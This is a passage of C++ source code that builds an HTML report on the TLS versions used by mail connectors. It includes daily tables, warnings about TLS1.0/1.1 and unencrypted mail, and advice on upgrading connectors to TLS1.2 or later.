      "<section id=\"daily\"><h2>Per day (UTC), last {} {}, newest first</h2>\n<table>\n<thead><tr><th>Date</th>"
      "<th>Connector</th><th>Direction</th><th>Type</th><th>Forced TLS</th><th class=\"num\">Messages</th>",
      report.days, report.days == 1 ? "day" : "days");
  for (const auto name : kVersionNames) out += fmt::format("<th class=\"num\">{} %</th>", html_escape(name));
  out += "</tr></thead>\n<tbody>\n";
  const std::size_t columns = 6 + kVersionNames.size();
  std::string quiet_newest, quiet_oldest;
  const auto flush_quiet = [&] {
    if (quiet_newest.empty()) return;
    const std::string when =
        quiet_newest == quiet_oldest ? quiet_newest : quiet_oldest + " &ndash; " + quiet_newest;
    out += fmt::format("<tr class=\"quiet\"><td colspan=\"{}\">{}: no messages on any connector</td></tr>\n", columns,
                       when);
    quiet_newest.clear();
    quiet_oldest.clear();
  };
  for (std::size_t begin = 0; begin < report.rows.size();) {
    std::size_t end = begin;
    std::uint64_t day_messages = 0;
    while (end < report.rows.size() && report.rows[end].date == report.rows[begin].date)
      day_messages += report.rows[end++].messages;
    if (day_messages == 0) {
      if (quiet_newest.empty()) quiet_newest = report.rows[begin].date;
      quiet_oldest = report.rows[begin].date;
      begin = end;
      continue;
    }
    flush_quiet();
    for (std::size_t r = begin; r < end; ++r) {
      const ReportRow& row = report.rows[r];
      if (row.messages == 0) continue;
      out += fmt::format(
          "<tr><td>{}</td><td>{}{}</td><td>{}</td><td>{}</td><td>{}</td><td class=\"num\">{}</td>",
          html_escape(row.date), html_escape(row.connector),
          row.configured ? "" : " <span class=\"tag removed\">removed from config</span>",
          config::to_string(row.direction), type_words(row.type), row.forced_tls ? "yes" : "no",
          format_thousands(row.messages));
      for (std::size_t i = 0; i < row.percent.size(); ++i) {
        const char* cls = "num";
        if (row.percent[i] > 0 && i == static_cast<std::size_t>(TlsVersion::none)) cls = "num bad";
        if (row.percent[i] > 0 && (i == static_cast<std::size_t>(TlsVersion::tls10) ||
                                   i == static_cast<std::size_t>(TlsVersion::tls11)))
          cls = "num warn";
        out += fmt::format("<td class=\"{}\" title=\"{}\">{}</td>", cls,
                           pluralize(row.counts[i], "message", "messages"), one_decimal(row.percent[i]));
      }
      out += "</tr>\n";
    }
    begin = end;
  }
  flush_quiet();
  out += "</tbody>\n</table>\n</section>\n";
  return out;
}

}  // namespace

std::string render_html(const Report& report) {
  std::string out;
  out.reserve(8192 + report.rows.size() * 400);
  out +=
      "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
      "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n"
      "<title>mailflowd &mdash; TLS connector report</title>\n<style>";
  out += kStyle;
  out += "</style>\n</head>\n<body>\n<header><h1>mailflowd &mdash; TLS connector report</h1>";
  out += fmt::format(
      "<p>Generated {} &middot; rolling window {} {} &middot; daily table: last {} {} (UTC)</p></header>\n",
      html_escape(report.generated_at), report.window_days, report.window_days == 1 ? "day" : "days",
      report.days, report.days == 1 ? "day" : "days");
  out += "<main>\n";

  out += transit_section(report);
  // Insights next: this is what the administrator came for.
  out += "<section id=\"insights\"><h2>Insights</h2>\n";
  if (report.insights.empty()) {
    out += "<p class=\"ok\">No active insights: no connector is above its TLS1.0, TLS1.1 or no-TLS threshold.</p>\n";
  } else {
    for (const Insight& insight : report.insights)
      out += fmt::format("<p class=\"insight {}\">{}</p>\n", insight_class(insight.insight), html_escape(insight.text));
    out +=
        "<p class=\"advice\"><strong>What to do:</strong> get the mail servers behind these connectors (a "
        "partner's, or your own) upgraded to TLS1.2 or later <em>before</em> TLS1.0 and TLS1.1 are switched "
        "off &mdash; once they are, mail from "
        "servers that cannot do better will be refused or fall back to no encryption at all. Mail without "
        "TLS "
        "is readable by anyone on the path: ask the sender to enable STARTTLS, or turn on Forced TLS "
        "(<code>require_tls</code>) for the connector once they have.</p>\n";
  }
  out += "</section>\n";

  out += "<section id=\"connectors\"><h2>TLS versions per connector (whole window)</h2>\n";
  out += legend();
  out +=
      "\n<table>\n<thead><tr><th>Connector</th><th>Direction</th><th>Type</th><th>Forced TLS</th>"
      "<th class=\"num\">Messages</th><th>TLS versions</th></tr></thead>\n<tbody>\n";
  for (const ConnectorSummary& c : report.connectors) {
    std::string pct;
    for (std::size_t i = 0; i < c.percent.size(); ++i)
      pct += fmt::format("{}<span>{} {}%</span>", i == 0 ? "" : " &middot; ", kVersionNames[i],
                         one_decimal(c.percent[i]));
    out += fmt::format(
        "<tr{}><td><strong>{}</strong>{}</td><td>{}</td><td>{}</td><td>{}</td><td class=\"num\">{}</td>"
        "<td class=\"barcell\">{}<div class=\"pct\">{}</div></td></tr>\n",
        c.messages == 0 ? " class=\"zero\"" : "", html_escape(c.connector),
        c.configured ? "" : " <span class=\"tag removed\">removed from config</span>",
        config::to_string(c.direction), type_words(c.type), c.forced_tls ? "yes" : "no",
        format_thousands(c.messages), svg_bar(c.percent, c.messages),
        c.messages == 0 ? "no messages in the window" : pct);
  }
  out += "</tbody>\n</table>\n</section>\n";

  out += trend_section(report);
  out += daily_section(report);
  append_drilldown_html(out, report);  // report_remotes.cpp
  out +=
      "<footer>mailflowd &middot; JSON: <code>/api/v1/report</code> &middot; CSV: "
      "<code>/api/v1/report.csv</code> "
      "&middot; Prometheus: <code>/metrics</code></footer>\n";
  out += "</main>\n</body>\n</html>\n";
  return out;
}

}  // namespace mailflow
